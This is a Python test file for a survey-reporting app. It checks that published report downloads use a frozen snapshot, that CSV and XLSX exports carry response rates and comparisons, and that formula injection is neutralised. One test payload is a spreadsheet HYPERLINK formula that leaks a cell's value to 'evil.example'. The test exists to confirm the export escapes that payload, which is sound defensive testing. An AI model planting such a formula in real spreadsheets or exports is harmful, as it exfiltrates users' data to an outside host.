"""Downloads of a published version are built from its snapshot, whatever
the live figures have become since."""

import csv
import io

from openpyxl import load_workbook

from survey.figures.documents import MEASURES
from survey.figures.releases import released_document
from survey.models import ResultSet, Survey
from survey.reports.downloads import report_csv, report_xlsx
from survey.reports.publishing import publish_report
from survey.responses.importing import import_responses
from tests.factories import answers, close_and_release, to_csv


def question_rows(client, url) -> list[tuple]:
    workbook = load_workbook(io.BytesIO(client.get(url).content))
    return list(workbook["Questions"].iter_rows(values_only=True))[2:]  # after the title and the header


def overall(rows, key) -> dict:
    """The overall figures of one question in the Questions sheet: choice -> (count, n)."""
    return {r[4]: (r[6], r[7]) for r in rows if r[0] == key and r[2] is None}


def test_xlsx_questions_of_a_published_version_are_its_snapshot_not_the_live_figures(client, survey, alice):
    rows = [answers(service="iapt", raised="yes", outcome="partly", safe="4")] * 20
    rows += [answers(service="other", safe="2")] * 20
    import_responses(survey=survey, text=to_csv(rows))
    close_and_release(survey)
    publish_report(survey=survey, acting_user=alice)
    before = question_rows(client, "/r/therapy-2026/v1/report.xlsx")
    assert overall(before, "safe") == {f"Point {i}": (20 if i in (2, 4) else 0, 40) for i in range(1, 6)}

    # The live summaries are recomputed differently (here: by hand); version 1 has not changed.
    result_set = ResultSet.objects.get(survey=survey)
    safe = next(q for q in result_set.questions if q["key"] == "safe")
    safe["n"] = 60
    result_set.save()
    assert next(q for q in released_document(survey=survey)["questions"] if q["key"] == "safe")["n"] == 40
    after = question_rows(client, "/r/therapy-2026/v1/report.xlsx")
    assert after == before

    # The next version shows the figures released at closing, which never move.
    publish_report(survey=Survey.objects.get(pk=survey.pk), acting_user=alice)
    assert question_rows(client, "/r/therapy-2026/v2/report.xlsx") == before


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def test_downloads_neutralise_formulas_and_keep_numbers(survey, alice):
    """A label an organiser typed as a formula arrives as text, prefixed with
    a quote, in the CSV and the XLSX; numbers (negative ones too) stay numbers."""
    import_responses(survey=survey, text=to_csv([answers(service="iapt", raised="yes", outcome="partly")] * 20))
    close_and_release(survey)
    report = publish_report(survey=survey, acting_user=alice)
    concern = report.snapshot["results"]["concerns"][0]
    concern["label"] = FORMULA
    concern[MEASURES[0]] = {"count": 10, "n": 20, "pct": 50.0, "ci95": [-0.25, 0.5]}
    for line in csv.reader(io.StringIO(report_csv(report))):
        assert len(line) < 2 or not line[1].startswith(("=", "+", "-", "@", "\t", "\r")) or line[1] == "label"
    rows = list(csv.reader(io.StringIO(report_csv(report))))
    assert rows[2][1] == "'" + FORMULA and rows[2][10] == "-0.25"

    sheet = load_workbook(io.BytesIO(report_xlsx(report)))["Concerns"]
    label, low = sheet.cell(row=3, column=2), sheet.cell(row=3, column=11)
    assert label.value == "'" + FORMULA and label.data_type == "s"
    assert low.value == -0.25 and low.data_type == "n"


def _tables(text: str) -> list[list[list[str]]]:
    """The CSV's tables after its title row, in order, each without its header."""
    tables = [[]]
    for row in list(csv.reader(io.StringIO(text)))[1:]:
        if row:
            tables[-1].append(row)
        else:
            tables.append([])
    return [table[1:] for table in tables]


def test_csv_and_xlsx_carry_the_response_rates_and_comparisons_of_the_json(client, survey, alice):
    rows = [answers(service="iapt", raised="yes", outcome="partly")] * 30 + [answers(service="iapt")] * 10
    rows += [answers(service="other", raised="yes", outcome="adequately")] * 10 + [answers(service="other")] * 30
    import_responses(survey=survey, text=to_csv(rows))
    Survey.objects.filter(pk=survey.pk).update(population=200)
    close_and_release(survey)
    publish_report(survey=Survey.objects.get(pk=survey.pk), acting_user=alice)
    document = client.get("/r/therapy-2026/v1/report.json").json()
    assert document["response_rates"]["overall"] == {"respondents": 80, "population": 200, "pct": 40.0}
    concerns, questions, rates, compared = _tables(client.get("/r/therapy-2026/v1/report.csv").content.decode())
    assert rates == [["", "All respondents", "no", "80", "200", "40.0"]]

    pairs = [c for c in document["comparisons"] if c["kind"] == "pair"]
    assert pairs, "the fixture has groups large enough to compare"
    assert len(compared) == len(document["comparisons"])
    row = next(r for r in compared if r[4].startswith("IAPT against") and r[2] == "raised")
    iapt = next(c for c in pairs if c["value"] == "iapt" and c["measure"] == "raised")
    assert row[5:8] == [str(iapt["group_pct"]), str(iapt["rest_pct"]), str(iapt["difference"])]
    assert row[13] == ("yes" if iapt["significant"] else "no")

    workbook = load_workbook(io.BytesIO(client.get("/r/therapy-2026/v1/report.xlsx").content))
    assert workbook.sheetnames == ["Concerns", "Questions", "Response rates", "Comparisons"]
    assert len(list(workbook["Comparisons"].iter_rows(values_only=True))) == 2 + len(document["comparisons"])
    assert list(workbook["Response rates"].iter_rows(values_only=True))[2] == (
        None,
        "All respondents",
        "no",
        80,
        200,
        40,
    )
